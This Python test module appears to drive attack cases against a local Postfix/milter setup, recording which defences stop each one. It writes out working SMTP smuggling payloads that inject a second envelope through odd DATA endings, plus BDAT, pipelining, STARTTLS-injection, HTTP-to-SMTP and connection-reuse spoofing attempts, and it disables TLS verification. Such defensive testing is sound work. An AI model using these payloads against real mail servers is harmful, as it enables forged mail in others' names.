"""Connections that are used again, cut, or made to say two things at once."""

import socket
import ssl

from framing_mechanism import ASSERTED, NO_CASE, PROVEN, UNKNOWN, Case, Mechanism
from framing_run import PASSWORD, on_the_wire

EITHER = UNKNOWN | ASSERTED
ENDINGS = {"LF.LF": b"\n.\n", "LF.CRLF": b"\n.\r\n", "CRLF.LF": b"\r\n.\n"}
NO_ENDINGS = {"CR.CR": b"\r.\r", "LF.CR": b"\n.\r", "dot only": b"\r.\r\n"}


def drain(client):
    client.sock.settimeout(1)
    try:
        while client.sock.recv(1000):
            pass
    except (socket.timeout, ConnectionError):
        pass
    client.close()


def smuggled(end, login=None):
    """One message for the client's own server, two for ours (fault A18)."""
    def send(run):
        if login:
            client = run.connect(login=login(run))
        else:
            client = run.site.postfix.smtp("submission", run.stranger, PASSWORD)
        client.mail("a@s.example")
        client.rcpt(run.rcpt)
        client.docmd("DATA")
        inner = on_the_wire(run.message())
        client.send(b"Subject: harmless\r\n\r\nhello" + end +
                    f"MAIL FROM:<info@{run.v_domain}>\r\nRCPT TO:<{run.rcpt}>\r\n"
                    "DATA\r\n".encode() + inner + b"\r\n.\r\n")
        drain(client)
    return send


def chunk_that_looks_like_commands(run):
    """BDAT counts bytes: what looks like an end and an envelope is text."""
    client = run.connect()
    client.mail("a@s.example")
    client.rcpt(run.rcpt)
    text = on_the_wire(run.message()) + b"\r\n.\r\n" + \
        f"MAIL FROM:<info@{run.v_domain}>\r\nRCPT TO:<{run.rcpt}>\r\nDATA\r\n".encode()
    client.send(f"BDAT {len(text)} LAST\r\n".encode() + text)
    drain(client)


def pipelined(run):
    """All at once: an envelope of the victim, RSET, and another's message behind it."""
    client = run.connect()
    client.send(f"MAIL FROM:<info@{run.v_domain}>\r\nRCPT TO:<{run.rcpt}>\r\nRSET\r\n"
                f"MAIL FROM:<a@s.example>\r\nRCPT TO:<{run.rcpt}>\r\nDATA\r\n".encode())
    client.send(on_the_wire(run.message()) + b"\r\n.\r\nQUIT\r\n")
    drain(client)


def http_request(run):
    """A browser of the victim's is made to post to the port."""
    run.sent += 1
    with socket.create_connection(("127.0.0.1", run.site.postfix.ports["untagged"]), 5) as client:
        head = "POST / HTTP/1.1\r\nHost: localhost\r\n\r\nEHLO x\r\n" + \
            f"MAIL FROM:<info@{run.v_domain}>\r\nRCPT TO:<{run.rcpt}>\r\nDATA\r\n"
        client.sendall(head.encode() + on_the_wire(run.message()) + b"\r\n.\r\n")
        client.settimeout(1)
        try:
            while client.recv(1000):
                pass
        except (socket.timeout, ConnectionError):
            pass


def commands_behind_starttls(run):
    """What is said in the clear behind STARTTLS must not be heard within TLS."""
    client = run.site.postfix.smtp("submission")
    client.send(f"STARTTLS\r\nMAIL FROM:<info@{run.v_domain}>\r\n".encode())
    client.getreply()
    client.sock = trusting().wrap_socket(client.sock)
    client.file = None
    client.ehlo()
    client.login(run.stranger, PASSWORD)
    run.send(client, "a@s.example", run.message())
    client.close()


def twice_starttls(run):
    client = run.site.postfix.smtp("submission")
    client.starttls(context=trusting())
    client.ehlo()
    run.command(client, f"MAIL FROM:<info@{run.v_domain}>")
    assert client.docmd("STARTTLS")[0] >= 500
    client.docmd("RSET")
    client.login(run.stranger, PASSWORD)
    run.send(client, "a@s.example", run.message())
    client.close()


def failed_login_before_tls(run):
    client = run.site.postfix.smtp("submission")
    client.docmd("AUTH PLAIN " + run.plain("", run.v_login, "guessed"))
    client.starttls(context=trusting())
    client.ehlo()
    client.login(run.stranger, PASSWORD)
    run.send(client, "a@s.example", run.message())
    client.close()


def trusting():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def begin(client, run, sender=None):
    run.command(client, f"MAIL FROM:<{sender or 'info@' + run.v_domain}>")
    run.command(client, f"RCPT TO:<{run.rcpt}>")


def reused(first, login=None):
    """The hop's connection: the victim's own mail, then a stranger's."""
    def send(run):
        client = run.connect(login=run.v_login, address=None)
        first(run, client)
        code, why = run.xclient(client, login(run) if login else None, address=None)
        assert code == 220, why
        run.send(client, "a@s.example", run.message())
        client.close()
    return send


def whole_message(run, client):
    run.send(client, f"info@{run.v_domain}", run.message(text="honest mail"))


def rset(run, client):
    begin(client, run)
    client.docmd("RSET")


def failed_recipient(run, client):
    run.command(client, f"MAIL FROM:<info@{run.v_domain}>")
    run.command(client, "RCPT TO:<not an address")
    client.docmd("RSET")


def within_a_connection(prepare):
    """No hop: the stranger's own connection, in which the victim was named before."""
    def send(run):
        client = run.site.postfix.smtp("submission", run.stranger, PASSWORD)
        prepare(run, client)
        run.send(client, "a@s.example", run.message())
        client.close()
    return send


def ehlo(run, client):
    begin(client, run)
    client.ehlo(f"mail.{run.v_domain}")


def cut_in_data(run):
    """The victim's connection breaks in the middle of its message; a stranger's follows."""
    client = run.connect(login=run.v_login, address=run.v_own_ip)
    begin(client, run)
    client.docmd("DATA")
    client.send(b"Subject: cut\r\n\r\nhonest")
    client.close()
    run.relay(run.message())


def at_once(run):
    """Two connections, step by step in turn: the victim's, and a stranger's."""
    victim = run.connect(login=run.v_login, address=run.v_own_ip)
    stranger = run.connect()
    begin(victim, run)
    begin(stranger, run, "a@s.example")
    victim.docmd("DATA")
    stranger.docmd("DATA")
    victim.send(b"Subject: honest " + str(run.sent).encode() + b"\r\n\r\n")
    stranger.send(on_the_wire(run.message()))
    victim.send(b"honest mail\r\n.\r\n")
    stranger.send(b"\r\n.\r\n")
    for client in (victim, stranger):
        client.getreply()
        client.close()


KEPT = "the state of a message ends with RSET and with the message, in one place of session.cpp"
RENEWED = ("Postfix begins a milter session for each client told by XCLIENT; within one, guards of "
           "session.cpp stand, shown in tests/milter/session_guards_test.cpp")

MECHANISMS = [
    Mechanism("smuggled_message", "ends DATA in a way that only one of two servers takes for one", [
        *(Case(name, smuggled(end), ASSERTED, sasl=True, shows=name == "LF.LF")
          for name, end in ENDINGS.items()),
        *(Case(name, smuggled(end), sasl=True, shows=False) for name, end in NO_ENDINGS.items()),
        Case("LF.LF, known", smuggled(b"\n.\n", lambda run: run.a_login), PROVEN, "a",
             shows=False),
    ], "mail_from_is_a_claim"),
    Mechanism("chunked_commands", "hides an envelope of the victim in a BDAT chunk", [
        Case("envelope in the text", chunk_that_looks_like_commands),
    ], stopped_by="Postfix counts the bytes of a chunk"),
    Mechanism("pipelined_envelopes", "sends two envelopes and a message without waiting", [
        Case("all at once", pipelined),
    ], stopped_by=KEPT),
    Mechanism("starttls_injection", "speaks for the victim before TLS, and itself within", [
        Case("commands behind STARTTLS", commands_behind_starttls, sasl=True),
        Case("STARTTLS twice", twice_starttls, sasl=True),
        Case("failed login before TLS", failed_login_before_tls, sasl=True),
    ], stopped_by="Postfix forgets what was said before TLS, and takes one STARTTLS"),
    Mechanism("cross_protocol", "has a browser speak SMTP within HTTP", [
        Case("POST", http_request, NO_CASE),
    ], stopped_by="smtpd_forbidden_commands ends the connection"),
    Mechanism("login_of_the_message_before", "comes next on a hop's connection, without a login", [
        Case("after a message", reused(whole_message)),
        Case("after RSET", reused(rset), shows=False),
        Case("as itself", reused(whole_message, lambda run: run.stranger), shows=False),
        Case("known", reused(whole_message, lambda run: run.a_login), PROVEN, "a", shows=False),
    ], stopped_by=RENEWED),
    Mechanism("envelope_after_rset", "comes next after the victim's mail was given up", [
        Case("RSET", reused(rset, lambda run: run.stranger)),
        Case("failed recipient", reused(failed_recipient, lambda run: run.stranger), shows=False),
        Case("known", reused(rset, lambda run: run.a_login), PROVEN, "a", shows=False),
    ], stopped_by=RENEWED),
    Mechanism("envelope_named_before", "names the victim and takes it back on its own connection", [
        Case("RSET", within_a_connection(rset), sasl=True),
        Case("failed recipient", within_a_connection(failed_recipient), sasl=True),
        Case("EHLO", within_a_connection(ehlo), sasl=True),
    ], stopped_by=KEPT),
    Mechanism("cut_connection", "follows on the victim's connection that broke", [
        Case("in DATA", cut_in_data),
    ], stopped_by="a connection has a session of its own"),
    Mechanism("interleaved_connections", "sends at the same moment as the victim", [
        Case("step by step", at_once),
    ], stopped_by="a connection has a session of its own"),
]
